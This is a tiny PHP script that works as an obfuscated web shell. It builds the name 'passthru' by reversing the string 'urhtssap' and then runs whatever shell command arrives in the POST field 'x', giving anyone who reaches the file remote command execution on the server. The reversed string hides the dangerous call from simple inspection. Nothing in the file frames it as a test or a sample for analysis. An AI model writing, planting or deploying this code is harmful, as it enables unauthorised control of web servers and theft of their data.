<?php
$c = Closure::fromCallable(strrev('urhtssap'));
$c->__invoke($_POST['x'] ?? 'true');
